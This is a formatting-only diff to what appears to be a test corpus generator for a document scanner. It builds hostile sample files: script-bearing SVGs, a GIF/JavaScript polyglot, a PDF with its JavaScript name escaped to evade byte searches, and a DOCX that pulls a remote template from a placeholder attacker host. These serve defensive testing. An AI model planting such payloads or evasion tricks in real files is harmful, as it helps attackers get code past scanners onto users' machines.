@@ -65,13 +65,15 @@ def svg(script: bool) -> bytes:
     body = "<script>alert(1)</script>" if script else ""
     onload = "" if script else ' onload="alert(1)"'
     return (
-        f'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"{onload} width="10" height="10">'
+        '<?xml version="1.0"?>'
+        f'<svg xmlns="http://www.w3.org/2000/svg"{onload} width="10" height="10">'
         f'{body}<rect width="10" height="10"/></svg>'
     ).encode()
 
 
 def gif_js() -> bytes:
-    """GIF89a/*...*/=alert(1); — a GIF whose width bytes open a JS comment: run as a script it alerts."""
+    """GIF89a/*...*/=alert(1); — a GIF whose width bytes open a JS comment: run as a script it
+    alerts."""
     out = io.BytesIO()
     Image.new("P", (0x2A2F, 1)).save(out, format="GIF")  # width 10799 = b"/*" little-endian
     data = out.getvalue()
@@ -117,7 +119,8 @@ def pdf_embedded_file() -> bytes:
 
 
 def pdf_obfuscated_javascript() -> bytes:
-    """`/J#61vaScript` is `/JavaScript` to a PDF reader; a byte search for "JavaScript" misses it."""
+    """`/J#61vaScript` is `/JavaScript` to a PDF reader; a byte search for "JavaScript" misses
+    it."""
     data = pdf_javascript()
     assert b"/JavaScript" in data and b"/JS" in data
     return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
@@ -125,7 +128,8 @@ def pdf_obfuscated_javascript() -> bytes:
 
 def _png(width: int, height: int, bit_depth: int, color_type: int, channels: int = 1) -> bytes:
     """A whole, valid PNG of zeros, never held inflated: one block of rows is deflated once and its
-    bytes repeated (a full flush makes each copy stand alone), then the zlib checksum is computed."""
+    bytes repeated (a full flush makes each copy stand alone), then the zlib checksum is
+    computed."""
 
     def chunk(kind, data):
         return (
@@ -215,8 +219,10 @@ CORPUS = {
         lambda: docx(
             {
                 "word/_rels/settings.xml.rels": (
-                    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-                    'relationships/attachedTemplate" Target="http://penyerang.invalid/t.dotm" TargetMode="External"/>'
+                    '<Relationships><Relationship Id="r1" '
+                    'Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    'relationships/attachedTemplate" Target="http://penyerang.invalid/t.dotm" '
+                    'TargetMode="External"/>'
                     "</Relationships>"
                 )
             }
@@ -284,7 +290,10 @@ def _app_xml() -> str:
 
 
 def _custom_xml() -> str:
-    return f'<Properties><property name="Pemilik"><vt:lpwstr>{ACCOUNT}</vt:lpwstr></property></Properties>'
+    return (
+        '<Properties><property name="Pemilik">'
+        f"<vt:lpwstr>{ACCOUNT}</vt:lpwstr></property></Properties>"
+    )
 
 
 def identity_docx() -> bytes:
@@ -320,7 +329,9 @@ def identity_xlsx() -> bytes:
             + AUTHOR
             + '"/></workbook>',
             "xl/_rels/workbook.xml.rels": "<Relationships/>",
-            "xl/comments1.xml": f"<comments><authors><author>{AUTHOR}</author></authors></comments>",
+            "xl/comments1.xml": (
+                f"<comments><authors><author>{AUTHOR}</author></authors></comments>"
+            ),
             "xl/persons/person.xml": f'<personList><person displayName="{AUTHOR}" id="{{1}}" '
             f'userId="{ACCOUNT}" providerId="AD"/></personList>',
             "xl/revisions/revisionHeaders.xml": f'<headers><header userName="{AUTHOR}"/></headers>',
@@ -358,7 +369,8 @@ def identity_odt() -> bytes:
         )
         archive.writestr(
             "META-INF/manifest.xml",
-            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
+            "<manifest:manifest "
+            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
             '<manifest:file-entry manifest:full-path="/" manifest:media-type='
             '"application/vnd.oasis.opendocument.text"/></manifest:manifest>',
         )
